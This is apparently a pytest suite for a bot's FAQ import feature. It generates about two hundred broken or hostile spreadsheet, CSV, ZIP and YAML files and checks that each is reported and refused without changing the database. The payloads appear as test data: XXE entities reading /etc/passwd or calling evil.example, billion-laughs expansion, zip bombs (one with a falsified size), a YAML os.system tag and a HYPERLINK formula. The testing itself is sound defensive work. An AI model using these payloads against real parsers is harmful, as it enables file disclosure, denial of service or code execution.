"""Two hundred files that are not as they must be: each gets a report with a place, none an exception, and no row is changed."""

import io
import json
import random
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from bot.db import Database
from bot.errors import Refused
from bot.exchange import leaving, plan, reading
from bot.exchange.apply import apply
from bot.exchange.limits import MOST_BYTES, MOST_TAGS
from bot.exchange.tables import MOST_ROWS, Item
from bot.faq import entries
from bot.faq.rules import book
from bot.tables import Base, EntryRow, Staff
from bot.understanding.corpus import seed_entries
from tests.story import DATA, hire

SEEDS: list[dict[str, Any]] = json.loads(json.dumps(list(seed_entries(DATA))[:6], default=str))
Broken = tuple[str, bytes]
Maker = Callable[[random.Random], Broken]


def archive(files: dict[str, bytes], **more: Any) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in files.items():
            made.writestr(name, content, **more)
    return out.getvalue()


def sound(kind: str) -> bytes:
    return leaving.file(kind, [Item(body, 1, "") for body in SEEDS], DATA)


SOUND = {kind: sound(kind) for kind in leaving.KINDS}


def workbook(change: Callable[[Any], None]) -> bytes:
    book = load_workbook(io.BytesIO(SOUND["xlsx"]))
    change(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def cut(r: random.Random) -> Broken:
    content = SOUND["xlsx"]
    return "cut.xlsx", content[: r.randrange(4, len(content) - 30)]


def flipped(r: random.Random) -> Broken:
    content = bytearray(SOUND["xlsx"])
    for _ in range(40):
        content[r.randrange(4, len(content))] = r.randrange(256)
    return "flipped.xlsx", bytes(content)


def part_gone(r: random.Random) -> Broken:
    found = parts(SOUND["xlsx"])
    found.pop(r.choice(["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"]))
    return "gone.xlsx", archive(found)


def entity(r: random.Random) -> Broken:
    found = parts(SOUND["xlsx"])
    name = r.choice([name for name in found if name.endswith(".xml")])
    inside = ['<!ENTITY a "b">', '<!ENTITY a SYSTEM "file:///etc/passwd">', '<!ENTITY % a SYSTEM "http://evil.example/"> %a;']
    found[name] = f"<?xml version='1.0'?><!DOCTYPE x [{r.choice(inside)}]><x>&a;</x>".encode(r.choice(["utf-8", "utf-16"]))
    return "entity.xlsx", archive(found)


def laughs(r: random.Random) -> Broken:
    found = parts(SOUND["xlsx"])
    grown = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    name = r.choice(["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "xl/styles.xml"])
    found[name] = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{grown}]><x>&l9;</x>'.encode()
    return "laughs.xlsx", archive(found)


def bomb(r: random.Random) -> Broken:
    found = parts(SOUND["xlsx"])
    found[f"xl/media/{r.random()}.xml"] = b"<c/>" * r.randrange(500_000, 3_000_000)
    return "bomb.xlsx", archive(found)


def lying_bomb(r: random.Random) -> Broken:
    """Says that it is small."""
    content = bytearray(archive({"texts.csv": b"x" * r.randrange(200_000, 400_000)}))
    place = content.rindex(b"PK\x01\x02")
    content[place + 24 : place + 28] = (100).to_bytes(4, "little")
    return "lying.zip", bytes(content)


def many_members(r: random.Random) -> Broken:
    return "many.zip", archive({f"{n}.csv": b"id" for n in range(401 + r.randrange(50))})


def nested(r: random.Random) -> Broken:
    return "nested.zip", archive({"texts.csv": b"id,version,form\n", r.choice(["a.zip", "b/c.zip", "d.exe"]): SOUND["csv"]})


def encrypted(r: random.Random) -> Broken:
    content = bytearray(archive({"texts.csv": b"id,version,form\n"}))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(mark) + place] |= 1
    return "secret.zip", bytes(content)


def other_kind(r: random.Random) -> Broken:
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + r.randbytes(2000)
    letter = archive({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"})
    kinds = {
        "old.xlsx": old,
        "letter.xlsx": letter,
        "page.pdf": b"%PDF-1.7",
        "none.xlsx": b"",
        "noise.xlsx": r.randbytes(500),
        "x.exe": b"MZ",
    }
    return r.choice(sorted(kinds.items()))


def empty(r: random.Random) -> Broken:
    return r.choice(["e.xlsx", "e.csv", "e.yml", "e.zip"]), r.choice([b"", b" ", b"\n\n\xef\xbb\xbf"[: r.randrange(2)]])


def heading(r: random.Random) -> Broken:
    """Columns that are missing, twice there, or called something else."""

    def change(book: Any) -> None:
        row = book["texts"][1]
        what = r.randrange(3)
        row[0 if what < 2 else 3].value = ("identifiant", None, "form")[what]

    return "heading.xlsx", workbook(change)


def merged(r: random.Random) -> Broken:
    start = r.randrange(2, 20)
    return "merged.xlsx", workbook(lambda book: book["texts"].merge_cells(f"A{start}:{r.choice('AE')}{start + r.randrange(1, 4)}"))


def cell(r: random.Random) -> Broken:
    """A value where another kind is needed."""
    column, value = r.choice([(1, "Bad Id"), (2, "x"), (2, -1), (2, None), (3, "es"), (3, None), (3, 1.5), (1, True), (1, None)])

    def change(book: Any) -> None:
        book["texts"].cell(r.randrange(2, 20), column).value = value

    return "cell.xlsx", workbook(change)


def wrong_day(r: random.Random) -> Broken:
    place, value = r.choice([(10, "31/01/2027"), (11, "2027-02-30"), (10, 45_000), (13, "demain"), (11, "=TODAY()")])
    return "day.xlsx", workbook(lambda book: book["entries"].cell(r.randrange(2, 8), place, value))


def error_value(r: random.Random) -> Broken:
    return "error.xlsx", workbook(lambda book: book["texts"].cell(r.randrange(2, 20), r.choice([1, 4, 5]), r.choice(["#NAME?", "#REF!"])))


def rows_twice(r: random.Random) -> Broken:
    lines = parts(SOUND["csv"])["entries.csv"].decode("utf-8-sig").splitlines(keepends=True)
    return "twice.csv", "".join([lines[0], f"{SEEDS[0]['id']},1\r\n", f"{SEEDS[0]['id']},{r.choice([1, 2])}\r\n"]).encode()


def hidden(r: random.Random) -> Broken:
    def change(book: Any) -> None:
        for name in ("texts", "entries"):
            book[name].sheet_state = r.choice(["hidden", "veryHidden"])

    return "hidden.xlsx", workbook(change)


def no_sheet(r: random.Random) -> Broken:
    book = Workbook()
    book.active.append([r.random(), "x"])
    out = io.BytesIO()
    book.save(out)
    return "numbers.xlsx", out.getvalue()


def unreadable_text(r: random.Random) -> Broken:
    good = b"id;version;form;title\n"
    bad = [
        good + b"x;1;ar;\x81\x8d\x00",
        good + r.randbytes(300) + b"\x00",
        b"\xff\xfe" + r.randbytes(301),
        b'id;version;form\n"x;1;ar\n',
        good + b'"a"b;1',
    ]
    return "letters.csv", r.choice(bad)


def lost_letters(r: random.Random) -> Broken:
    return "lost.csv", f"id,version,form,title\n{SEEDS[0]['id']},1,ar,{r.choice(['???? ?????', chr(0xFFFD)])}\n".encode()


def long_text(r: random.Random) -> Broken:
    return "long.csv", f"id,version,form,answer\n{SEEDS[0]['id']},1,fr,{'é' * r.choice([4001, 40_000, 140_000])}\n".encode()


def control(r: random.Random) -> Broken:
    return "control.csv", f"id,version,form,answer\n{SEEDS[0]['id']},1,fr,a{chr(r.choice([1, 7, 27, 31]))}b\n".encode()


def yaml(r: random.Random) -> Broken:
    deep = "[" * r.randrange(10, 100_000)
    alias = "- &a {id: a, titles: {fr: x}}\n- *a\n"
    laugh = "a: &a [x,x,x]\nb: &b [*a,*a]\n"
    body = f"- id: {SEEDS[0]['id']}\n  topic: schooling\n"
    bad = [
        deep,
        alias,
        laugh,
        "id: x\n",
        "- id: x\n  id: y\n",
        "- [\n",
        "- !!python/object:os.system x\n",
        "- id: a b\n",
        "--- []\n--- []\n",
    ]
    bad += [
        f"{body}  colour: red\n",
        f"{body}  titles: [a]\n",
        f"{body}  read_on: soon\n",
        f"{body}  titles: {{es: a}}\n",
        "\tx: 1\n",
        "- {id: x\x00}",
    ]
    bad += [f"{body}  questions: {{fr: {{a: b}}}}\n", f"{body}  facts: {{a: b}}\n", f"{body}{body}", '- id: x\n  topic: "\\ud800"\n']
    return "bad.yml", r.choice(bad).encode()


def not_utf8(r: random.Random) -> Broken:
    return "latin.yml", "- id: é\n".encode("latin-1") + r.randbytes(3)


MAKERS: tuple[Maker, ...] = (
    cut,
    part_gone,
    entity,
    laughs,
    bomb,
    lying_bomb,
    many_members,
    nested,
    encrypted,
    other_kind,
    empty,
    heading,
    merged,
)
MAKERS += (
    cell,
    wrong_day,
    error_value,
    rows_twice,
    hidden,
    no_sheet,
    unreadable_text,
    lost_letters,
    long_text,
    control,
    yaml,
    not_utf8,
    flipped,
)
FILES = [(maker, seed) for seed in range(8) for maker in MAKERS]


@pytest.fixture(scope="module")
def files() -> list[Broken]:
    return [maker(random.Random(f"{maker.__name__} {seed}")) for maker, seed in FILES]


def state(session: Session) -> dict[str, list[Any]]:
    return {table.name: [tuple(row) for row in session.execute(select(table))] for table in Base.metadata.sorted_tables}


@pytest.fixture
def nadia(db: Database) -> Staff:
    return hire(db, "Nadia", "editor")


def test_two_hundred_broken_files_are_told_and_change_nothing(session: Session, nadia: Staff, files: list[Broken]) -> None:
    entries.import_entries(session, SEEDS)
    session.flush()
    before, silent = state(session), []
    for (maker, seed), (name, content) in zip(FILES, files):
        found = plan.plan(session, reading.read(name, content), book(DATA))
        said = [r for r in found.read.remarks if r.grave or r.key in ("hidden_sheet", "empty_table")]
        said += [r for _, state, _, remarks in plan.rows(found) if state == "refused" for r in remarks]
        if maker is not flipped and not (said and all(r.where and r.key for r in said)):  # a flip may hit what nobody reads
            silent.append((maker.__name__, seed, name))
        with pytest.raises(Refused):
            apply(session, nadia, found)
    assert len(files) >= 200 and silent == []
    assert state(session) == before


def test_the_files_before_they_were_broken_are_read(session: Session) -> None:
    """Else the test before would find anything."""
    entries.import_entries(session, SEEDS)
    for kind, content in SOUND.items():
        found = plan.plan(session, reading.read(f"x.{'xlsx' if kind == 'xlsx' else 'zip'}", content), book(DATA))
        assert {o.state for o in found.outcomes} == {"unchanged"} and found.is_whole and len(found.outcomes) == 6
    assert reading.read("x.xlsx", workbook(lambda book: None)).remarks == []


@pytest.mark.parametrize("name", ["x.csv", "x.yml", "x.xlsx"])
def test_fifty_megabytes_are_refused_unread(name: str) -> None:
    read = reading.read(name, b"PK\x03\x04".ljust(50 * 2**20, b"x"))
    assert [(r.key, r.detail) for r in read.remarks] == [("too_large", f"50 MB > {MOST_BYTES // 2**20} MB")]


def test_more_rows_than_anybody_can_read_are_refused_whole() -> None:
    row = f"{SEEDS[0]['id']},1,fr\n"
    assert [r.key for r in reading.read("x.csv", f"id,version,form\n{row * (MOST_ROWS + 1)}".encode()).remarks] == ["too_many_rows"]
    book = Workbook(write_only=True)
    sheet = book.create_sheet("texts")
    for n in range(MOST_ROWS + 2):
        sheet.append(["id" if not n else f"e{n}"])
    out = io.BytesIO()
    book.save(out)
    read = reading.read("x.xlsx", out.getvalue())
    assert [r.key for r in read.remarks] == ["too_many_rows"] and not read.given


def test_twenty_thousand_rows_are_read(session: Session) -> None:
    rows = "".join(f"e{n},,fr\n" for n in range(MOST_ROWS))
    found = plan.plan(session, reading.read("x.csv", f"id,version,form\n{rows}".encode()), book(DATA))
    assert found.count("refused") == MOST_ROWS and session.scalar(select(EntryRow.id)) is None


def test_a_formula_is_read_as_its_text_and_never_run() -> None:
    content = workbook(lambda book: [book["texts"].cell(2, 4, "=1+1"), book["texts"].cell(3, 4, '=HYPERLINK("http://evil.example")')])
    found = reading.read("x.xlsx", content).given[SEEDS[0]["id"]].values
    assert found["titles", "fr"] == "=1+1" and found["titles", "en"] == '=HYPERLINK("http://evil.example")'


def test_a_day_that_the_spreadsheet_made_a_date_is_a_day() -> None:
    from datetime import datetime

    content = workbook(lambda book: book["entries"].cell(2, 10, datetime(2027, 1, 31)))
    assert reading.read("x.xlsx", content).given[SEEDS[0]["id"]].values["read_on", ""] == "2027-01-31"


def test_what_windows_adds_to_line_ends_is_no_text() -> None:
    found = parts(SOUND["xlsx"])
    name = "xl/worksheets/sheet1.xml"
    title = SEEDS[0]["titles"]["fr"]
    found[name] = found[name].replace(f"<t>{title}</t>".encode(), f"<t>{title}_x000D_\nx</t>".encode(), 1)
    assert reading.read("x.xlsx", archive(found)).given[SEEDS[0]["id"]].values["titles", "fr"] == f"{title}\nx"


def test_a_sheet_under_another_name_is_counted_too() -> None:
    found = parts(SOUND["xlsx"])
    swollen = found.pop("xl/worksheets/sheet1.xml").replace(b"</sheetData>", b"<row/>" * (MOST_TAGS + 1) + b"</sheetData>")
    renamed = {name: content.replace(b"worksheets/sheet1.xml", b"worksheets/sheet1.bin") for name, content in found.items()}
    content = archive({**renamed, "xl/worksheets/sheet1.bin": swollen})
    assert [remark.key for remark in reading.read("x.xlsx", content).remarks] == ["unpacks_too_large"]
